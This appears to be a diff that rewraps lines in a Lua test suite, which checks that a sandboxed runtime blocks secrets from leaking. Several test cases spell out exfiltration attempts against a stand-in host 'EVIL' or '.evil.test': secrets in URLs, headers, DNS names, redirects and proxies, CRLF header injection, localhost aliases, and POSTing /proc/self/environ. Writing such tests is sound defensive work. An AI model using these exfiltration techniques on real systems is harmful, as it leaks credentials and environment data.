@@ -85,7 +85,8 @@ way("a coroutine's error", [[print(coroutine.resume(coroutine.create(function() 
 way("a message handler", [[print(xpcall(error, function(e) return "handled " .. tostring(e) end, WAY))]], "handled %[secret WAY%]")
 way("assert", [[assert(false, WAY)]], "secret")
 way("warn", [[tell(function() warn(WAY) end)]], "secret")
-way("the collector, which would tell how long it is", [[tell(function() return collectgarbage "count" end)]], "unknown name 'collectgarbage'")
+way("the collector, which would tell how long it is", [[tell(function() return collectgarbage "count" end)]],
+  "unknown name 'collectgarbage'")
 
 -- ---- by writing it down ------------------------------------------------------------------------------------
 
@@ -98,7 +99,8 @@ way("base64, hex, sha256", [[print(require "base64".encode(WAY)) tell(require "h
 way("hmac under a known key", [[local hmac = require "hmac" print(hmac.sha256("known", WAY), hmac.sha1("known", WAY, { encoding = "hex" }))
   print(hmac.verify("known", WAY, "aa"))]], "%[secret hmac.sha256%]")
 way("url.encode, url.query, url.build", [[local url = require "url" print(url.encode(WAY), url.query { a = WAY },
-  url.build { scheme = "https", host = "x.test", userinfo = WAY }) tell(url.parse, WAY) tell(url.decode, WAY)]], "url.parse: a secret cannot be read")
+  url.build { scheme = "https", host = "x.test", userinfo = WAY }) tell(url.parse, WAY) tell(url.decode, WAY)]],
+  "url.parse: a secret cannot be read")
 way("secret.names, fingerprint, password", [[print(secret.names(WAY)[1], #secret.fingerprint(WAY, WAY)) tell(secret.password, WAY)]],
   "WAY\t16")
 way("mask.text, mask.stream", [[local mask = require "mask" tell(mask.text, WAY)]], "not a secret")
@@ -107,7 +109,8 @@ way("log: a field, a field of a field, the message", [[local log = require "log"
   "log.info: field 'token' cannot hold a secret: " .. REFUSED)
 way("fs.write, fs.append", [[local fs = require "fs" tell(fs.write, "out", WAY) tell(fs.append, "out", "x" .. WAY)
   tell(fs.write, WAY, "x")]], "fs.write: a file that is not sealed cannot hold a secret: " .. REFUSED)
-way("a name of a file or a folder", [[local fs = require "fs" tell(fs.make, WAY) tell(fs.exists, WAY) tell(fs.glob, WAY)]], "fs.make: the path must be a string")
+way("a name of a file or a folder", [[local fs = require "fs" tell(fs.make, WAY) tell(fs.exists, WAY) tell(fs.glob, WAY)]],
+  "fs.make: the path must be a string")
 way("a workflow's command", [[local w = require "workflow" tell(w.notice, WAY) tell(w.group, WAY) tell(w.error, "x", { file = WAY })]],
   "secret", { env = { GITHUB_ACTIONS = "true" } })
 way("a title of the terminal", [[print("\27]0;" .. tostring(WAY) .. "\7")]], "%[secret WAY%]")
@@ -153,7 +156,8 @@ way("a program of the bound name in the recipe's own folder", [[local fs = requi
     tell(process.run, { argv = o.argv, env = { A = WAY, PATH = o.path }, input = WAY }) end]], REFUSED .. ", not to program:")
 way("a link of the bound name to another program", [[process.run { argv = { "ln", "-s", "/bin/cat", "cksum" } }
   tell(process.run, { argv = { "./cksum" }, input = WAY })]], REFUSED .. ", not to program:./cksum")
-way("a shell that runs the bound program", [[tell(process.run, { command = "cksum", env = { A = WAY } })]], REFUSED .. ", not to program:/bin/sh")
+way("a shell that runs the bound program", [[tell(process.run, { command = "cksum", env = { A = WAY } })]],
+  REFUSED .. ", not to program:/bin/sh")
 way("what the bound program prints of it", [[local s = secret.env("WAY", { to = { "program:sh" } })
   print(process.run { command = "printf '%s\n' \"$A\"; printf %s \"$A\" | base64; printf %s \"$A\" >&2", env = { A = s } }.output)
   process.run { command = "printf '%s' \"$A\"; exec 1>&2; printf '%s\n' \"$A\"", env = { A = s }, output = "stream" }
@@ -178,7 +182,8 @@ way("a part's name, file and type, at home too", [[for _, f in ipairs { "name", 
 way("a URL's path and query, at home too", [[tell(http.request, { url = HOME .. "/" .. WAY })
   tell(http.request, { url = HOME .. "/?" .. require "url".query { token = WAY } })]], "option 'url' cannot hold a secret: " .. REFUSED)
 way("a name to be looked up", [[tell(http.request, { url = "http://" .. WAY .. ".evil.test/" })
-  tell(require "dns".lookup, { name = WAY .. ".evil.test" }) tell(require "dns".lookup, { name = "a.test", server = WAY })]], "cannot hold a secret")
+  tell(require "dns".lookup, { name = WAY .. ".evil.test" }) tell(require "dns".lookup, { name = "a.test", server = WAY })]],
+  "cannot hold a secret")
 way("the method and a header's name", [[tell(http.request, { url = EVIL, method = WAY })
   tell(http.request, { url = EVIL, headers = { [WAY] = "x" } })]], "headers are a table name = value")
 way("a header folded to make two of one", [[local two = "x\r\nX-Copy: " .. WAY
@@ -187,7 +192,8 @@ way("user information before another host", [[tell(http.request, { url = (EVIL:g
   headers = { a = WAY } })]], "a URL that cannot be checked %(it holds user information%)")
 way("a backslash, a blank, a tab or a line break in the host", [[for _, c in ipairs { "\\", " ", "\t", "\n", "%00", "%2e" } do
   tell(http.request, { url = HOME .. c .. "@" .. EVIL:match "//(.*)", headers = { a = WAY } }) end]], "cannot be checked")
-way("another port", [[tell(http.request, { url = HOME:gsub("%d+$", function(p) return EVIL:match "%d+$" end), headers = { a = WAY } })]], REFUSED)
+way("another port", [[tell(http.request, { url = HOME:gsub("%d+$", function(p) return EVIL:match "%d+$" end), headers = { a = WAY } })]],
+  REFUSED)
 way("another name of the same machine", [[for _, name in ipairs { "localhost", "127.1", "127.000.000.001", "0x7f000001", "2130706433",
   "127.0.0.1.", "[::ffff:127.0.0.1]", "0" } do
   tell(http.request, { url = HOME:gsub("127.0.0.1", name), headers = { a = WAY }, timeout = 2 }) end]], REFUSED)
@@ -204,14 +210,16 @@ way("another path, also by dots", [[local s = secret.env("WAY", { to = { EVIL ..
 way("another method or header than was said", [[local s = secret.env("WAY", { to = { "POST " .. EVIL .. " header:authorization" } })
   tell(http.request, { url = EVIL, headers = { authorization = s } })
   tell(http.request, { url = EVIL, method = "POST", headers = { ["x-a"] = s } })
-  tell(http.request, { url = EVIL, method = "POST", body = s })]], "header:authorization only, not to GET http://127.0.0.1:%d+ %(header 'authorization'%)")
+  tell(http.request, { url = EVIL, method = "POST", body = s })]],
+  "header:authorization only, not to GET http://127.0.0.1:%d+ %(header 'authorization'%)")
 
 -- ---- by redirects ---------------------------------------------------------------------------------------------------
 
 local function redirect(name, location, says, status, headers, reached)
   way("a redirect to " .. name, ([[local location = %s
     tell(http.request, { url = HOME .. "/to?" .. require "url".query { status = %d, location = location }, timeout = 3,
-      method = "POST", %s })]]):format(location, status or 302, headers or "headers = { authorization = WAY, cookie = WAY }"), says, { reached = reached })
+      method = "POST", %s })]]):format(location, status or 302, headers or "headers = { authorization = WAY, cookie = WAY }"), says, {
+  reached = reached })
 end
 
 redirect("another host takes no credential along", [[EVIL .. "/next"]], "table: ", nil, nil, true)
@@ -244,20 +252,23 @@ way("an authority and an address of one's own", [[local authority = require "aut
   tell(http.request, { url = "https://api.github.com/", ca = "ca.pem", proxy = EVIL, headers = { a = s } })
   tell(http.request, { url = "https://api.github.com/", ca = "ca.pem", unix = "/s", headers = { a = s } })]],
   "https://api.github.com only, not to https://127.0.0.1")
-way("the proxy's own credentials", [[tell(http.request, { url = EVIL, proxy = "http://u:" .. WAY .. "@127.0.0.1:9" })]], "option 'proxy' cannot hold a secret")
+way("the proxy's own credentials", [[tell(http.request, { url = EVIL, proxy = "http://u:" .. WAY .. "@127.0.0.1:9" })]],
+  "option 'proxy' cannot hold a secret")
 way("a signature for elsewhere", [[tell(http.request, { url = EVIL, sigv4 = { region = "r", key_id = "id", key = WAY } })
   tell(http.request, { url = EVIL, sigv4 = { region = "r", key_id = WAY, key = "k" } })
   tell(http.presign, { url = HOME, sigv4 = { region = "r", key_id = WAY, key = WAY } })]], "they cannot be secrets")
 way("a WebSocket to another host", [[local ws = require "websocket"
   tell(ws.connect, { url = EVIL:gsub("^http", "ws"), headers = { authorization = WAY } })
   tell(ws.connect, { url = EVIL:gsub("^http", "ws") .. "/" .. WAY })]], ELSEWHERE .. "http://127.0.0.1")
-way("a probe of another host", [[tell(require "health".wait, { url = EVIL, headers = { authorization = WAY }, attempts = 1, deadline = 2 })]],
+way("a probe of another host",
+  [[tell(require "health".wait, { url = EVIL, headers = { authorization = WAY }, attempts = 1, deadline = 2 })]],
   ELSEWHERE .. "http://127.0.0.1:%d+ %(header 'authorization'%)")
 way("a database of another host", [[local sql, s = require "sql", secret.env("WAY", { to = { "sql:db.test" } })
   tell(sql.connect, { url = "postgresql://u:" .. require "url".encode(s) .. "@127.0.0.1:9/d" })
   tell(sql.connect, { url = "postgresql://u:" .. require "url".encode(s) .. "@db.test:9/d?host=127.0.0.1", timeout = 0.2 })
   tell(sql.connect, { url = s })]], "may be sent to sql:db.test only, not to sql:127.0.0.1")
-way("pages that lead elsewhere", [[tell(function() for item in http.pages { style = "link", url = EVIL, headers = { authorization = WAY } } do print(item) end end)]],
+way("pages that lead elsewhere",
+  [[tell(function() for item in http.pages { style = "link", url = EVIL, headers = { authorization = WAY } } do print(item) end end)]],
   REFUSED)
 way("a stream from elsewhere", [[tell(http.stream, { url = EVIL, headers = { authorization = WAY } })]], REFUSED)
 way("a server of one's own", [[local server = require "server"
@@ -274,7 +285,8 @@ way("what is made of it", [[for _, s in ipairs { secret.base64(WAY), secret.basi
   tell(http.request, { url = EVIL, headers = { a = s } }) end]], ELSEWHERE .. ".-\n.-" .. ELSEWHERE)
 way("the variable, read as plain text", [[tell(os.getenv, "WAY") print(require "core".getenv "WAY")]], "os.getenv: WAY is a secret")
 way("/proc/self/environ", [[local fs = require "fs" local text = fs.read("/proc/self/environ", { outside = true })
-  print(#text > 10) local at = text:find("WAY=", 1, true) print(at and text:byte(at + 4)) http.request { url = EVIL, method = "POST", body = text }]],
+  print(#text > 10) local at = text:find("WAY=", 1, true) print(at and text:byte(at + 4)) http.request { url = EVIL, method = "POST",
+  body = text }]],
   "true")
 
 -- ---- out of memory, files and processes ------------------------------------------------------------------------------------
